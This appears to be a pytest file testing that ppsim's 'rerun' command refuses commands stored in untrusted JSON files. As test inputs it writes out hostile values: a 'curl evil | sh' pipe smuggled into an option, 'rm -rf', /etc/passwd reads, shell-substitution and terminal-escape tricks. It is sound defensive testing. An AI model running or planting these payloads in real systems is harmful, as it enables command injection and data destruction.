"""A command that a file states shapes, costs and draws, and does nothing else; all the rest is for whoever types."""

from __future__ import annotations

import json
import shlex
import socket
import subprocess
from pathlib import Path

import click
import pytest

from ppsim.cli import _door, group
from ppsim.cli._command import Question
from ppsim.errors import InputError
from ppsim.questions import door
from ppsim.questions.ask import read_value
from ppsim.questions.options import Option, list_options
from ppsim.questions.view import ViewRequest
from tests.cli import door_fuzz
from tests.commands import answer, invoke, refused

# The others are refused by their names, whatever their options.
COMPUTING = [
    c for name in sorted(_door.COMMANDS) if isinstance(c := group.get_command(click.Context(group), name), Question)
]
PARAMS = [(command, each) for command in COMPUTING for each in command.declared]


def test_every_option_of_every_command_is_declared_for_files():
    """A new text or switch fails here until somebody has said whether a stranger's file may state it."""
    said = "door= where it is declared, of ppsim/questions/door.py"
    assert [f"{c.name} {p.spelling}: {said}" for c, p in PARAMS if door.door_of(p) is None] == []


def test_the_pages_options_are_declared_for_files():
    assert [each.name for each in list_options(ViewRequest) if door.door_of(each) is None] == []


def test_every_command_is_declared_for_files_once():
    names = group.list_commands(click.Context(group))
    assert sorted(command.name or "" for command in COMPUTING) == sorted(_door.COMMANDS)
    assert sorted([*_door.COMMANDS, *_door.REFUSED_COMMANDS]) == names


def test_no_option_that_click_knows_for_a_path_is_taken_for_a_value():
    known = (click.Path, click.File)
    assert not [(c.name, p.name) for c, p in PARAMS if isinstance(p.type, known) and door.door_of(p) == door.VALUE]


@pytest.mark.parametrize("name", ["llama3-8b", "dgx-h100", "1f1b"])
def test_a_name_is_none_where_an_option_takes_files_alone(name):
    """A file of that name may lie in the folder one stands in."""
    for command, param in PARAMS:
        if (
            isinstance(param.type, click.Path)
            and param.settings.get("metavar") != "NAME|FILE"
            and door.door_of(param) == door.PATH
        ):
            with pytest.raises(InputError, match="which may be a file to read"):
                _door.check_values(command, {param.name: name}, "it")


@pytest.fixture
def folder(tmp_path, monkeypatch):
    """An empty folder, in which one stands."""
    monkeypatch.chdir(tmp_path)
    return tmp_path


def store(command: str, file: str = "a.json") -> None:
    Path(file).write_text(json.dumps({"inputs": {"command": command}}))


def rerun(command: str) -> InputError:
    """What a file that states a command is refused with."""
    store(command)
    error = refused("rerun", "a.json", "-o", "safe.svg")
    assert isinstance(error, InputError)
    assert sorted(path.name for path in Path.cwd().iterdir()) == ["a.json"]
    return error


def usual(command: Question, param: Option, value: str) -> str:
    """A command line with one option, or argument, more than it needs."""
    if param.is_argument:
        return f"ppsim {command.name} {value}"
    typed = param.spelling if param.type is bool else f"{param.spelling} {value}"
    return f"ppsim {command.name} {typed}"


@pytest.mark.parametrize("value", ["x.json", "/etc/passwd", "./1f1b", "W=two.csv"])
def test_every_option_that_takes_a_path_is_refused_by_name(value):
    checked = 0
    for command, param in PARAMS:
        if door.door_of(param) == door.VALUE:
            continue
        typed = f"schedule={value}" if param.name == "changes" else value
        line = usual(command, param, typed)
        with pytest.raises(InputError) as error:
            _door.admit(shlex.split(line)[1:], "'a.json'")
        assert f"'a.json' states {param.spelling}" in str(error.value)
        assert error.value.hint == f"if you trust it, by hand: {line}"
        checked += 1
    assert checked > 100


@pytest.mark.parametrize(
    "key", ["encoder", "profile", "cluster", "segments", "mb-scale", "slice-scale", " encoder ", "tf=2, mb-scale"]
)
@pytest.mark.parametrize("value", ["/etc/passwd", "W=two.csv", "./dgx-h100"])
def test_a_change_names_no_file(key, value):
    with pytest.raises(InputError) as error:
        _door.admit(["explain", "1f1b", "--what-if", f"{key}={value}"], "'a.json'")
    assert f"'a.json' states --what-if '{key}={value}', which may be a file" in str(error.value)


@pytest.mark.parametrize("change", ["tf.1=x2,comm=0.1", "mb-scale=1,2", "link.0>1=0.5", "mb-scale=lognormal:0.2:7"])
def test_a_change_of_numbers_passes(change):
    _door.admit(["explain", "1f1b", "--what-if", change], "'a.json'")


@pytest.mark.parametrize(
    ("command", "why"),
    [
        ("ppsim run 1f1b --devices 2 --mb 2 -o evil.svg", "states --output, which says what is written where"),
        ("ppsim run 1f1b --devices 2 --mb 2 -oevil.svg", "states --output"),
        ("ppsim run 1f1b --devices 2 --mb 2 -qoevil.svg", "states --output"),
        ("ppsim run 1f1b --devices 2 --mb 2 -f mmd --unit 'x\ncurl evil | sh'", "states --format"),
        ("ppsim run 1f1b --devices 2 --mb 2 -- -o", "unknown schedule '-o'"),
        ("ppsim run own.py --mb 4", "states [SCHEDULE] 'own.py'"),
        ("ppsim run 1f1b:own.py --mb 4", "states [SCHEDULE] '1f1b:own.py'"),
        ("ppsim run own --mb 4", "unknown schedule 'own'"),
        ("ppsim run - --mb 4", "unknown schedule '-'"),
        ("ppsim run 1f1b --help", "No such option '--help'"),
        ("ppsim run 1f1b -h", "No such option '-h'"),
        ("ppsim run 1f1b --module x", "No such option"),
        ("ppsim run 1f1b --title", "requires an argument"),
        ("ppsim sweep 1f1b --devices 2 --mb 2 --results evil.csv", "states --results, which reads and writes a file"),
        ("ppsim validate 1f1b --devices 2 --mb 2 --module x.py", "states 'validate', which starts processes"),
        ("ppsim validate 1f1b --devices 2 --mb 2 --from-record ''", "states 'validate', which starts processes"),
        ("ppsim calibrate --force", "states 'calibrate', which measures this machine"),
        ("ppsim partition 1f1b --devices 2 --mb 2 --num-layers 4", "'partition', which writes no file"),
        ("ppsim _live x", "states no command of ppsim"),
        ("ppsim", "states no command of ppsim"),
        ("rm -rf x", "which is no command of ppsim"),
        ("ppsim 'unclosed", "which is no command of ppsim"),
    ],
)
def test_a_file_cannot_make_it_do_anything_else(folder, command, why):
    assert why in str(rerun(command))


def test_a_switch_that_has_no_meaning_any_more_keeps_no_file_from_being_made_again(folder):
    store("ppsim run 1f1b --devices 2 --mb 2 --steady")
    assert invoke("rerun", "a.json", "-o", "safe.mmd").exit_code == 0


@pytest.mark.parametrize("end", ["--", "--unit --", "--unit -o"])
def test_a_word_that_waits_for_another_does_not_take_the_target(folder, end):
    """The user's -o comes first, so nothing that a file ends with can swallow it."""
    store(f"ppsim run 1f1b --devices 2 --mb 2 {end}")
    assert invoke("rerun", "a.json", "-o", "safe.mmd").exit_code == 0
    assert sorted(path.name for path in folder.iterdir()) == ["a.json", "safe.mmd"]


@pytest.mark.parametrize(
    "command", ["sweep 1f1b --devices 2 --mb 2", "jitter 1f1b --devices 2 --mb 2", "plan", "optimize"]
)
def test_nothing_connects_to_a_scheduler_that_a_file_names(folder, command):
    """One that answers with a pickle would run its code."""
    with socket.create_server(("127.0.0.1", 0)) as scheduler:
        scheduler.setblocking(False)
        line = f"{command} --dask tcp://127.0.0.1:{scheduler.getsockname()[1]}"
        assert "states --dask, which connects to other machines" in str(rerun(f"ppsim {line}"))
        with pytest.raises(BlockingIOError):
            scheduler.accept()


TRICKS = ["$(touch x)", "`touch x`", "a\nb", "-rf", "~", "*", "a'b", "\x1b[31m\x07", "!x", "\u202e\\n", "'\n\\'"]


def test_what_is_printed_for_a_shell_is_one_line_that_no_terminal_obeys(folder):
    store(shlex.join(["ppsim", "run", "1f1b", "--title", *TRICKS]))
    code, out, _ = answer("rerun", "a.json", "--print")
    assert code == 0
    assert out.endswith("\n")
    assert out[:-1].isprintable()


def test_what_click_refuses_is_no_message_that_a_terminal_obeys():
    code, _, errors = answer("optimize", "--devices", "2", "\x1b]0;x\x07")
    assert code == 2
    assert "unexpected extra argument" in errors
    assert errors.replace("\n", "").isprintable()


@pytest.mark.slow
def test_a_shell_takes_each_word_of_it_as_it_is():
    line = _door.shell_line(["printf", r"%s\0", *TRICKS])
    done = subprocess.run(["bash", "-c", line], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"})
    assert done.stdout.decode().split("\0")[:-1] == TRICKS


def test_bytes_that_are_no_text_are_refused_in_every_word_of_every_command(folder):
    """Python reads them as halves of characters, which no file and no terminal can hold."""
    for command, param in PARAMS:
        words = [] if param.is_argument else [param.spelling]
        for typed in ([*words, "\udcff\udcfe"], [*words[:1], "x\udcff"], [f"{''.join(words)}=\udcff"]):
            code, out, errors = answer(command.name or "", *typed)
            assert (code, out) == (2, "")
            assert "is not text in utf-8\n  try: " in errors


def test_a_nul_is_refused_in_every_word_of_every_command_and_in_python(folder):
    """No path has one: what opens a file would raise."""
    for command, param in PARAMS:
        words = [] if param.is_argument else [param.spelling]
        for typed in ([*words, "a\0b"], [f"{''.join(words)}=\0"]):
            code, out, errors = answer(command.name or "", *typed)
            assert (code, out) == (2, "")
            assert "has a NUL character\n  try: " in errors
        if not param.is_object:
            with pytest.raises(InputError, match="has a NUL character"):
                read_value(param, ["a\0b"] if param.many else "a\0b")
    store("ppsim run 1f1b --stages 4 --mb 8 --title \0")
    assert answer("rerun", "a.json")[0] == 2


@pytest.mark.slow
def test_mutated_commands_stay_within_their_target():
    """More of them: ``python -m tests.cli.door_fuzz SEED COUNT``."""
    assert [*door_fuzz.faults(3, 120)] == []
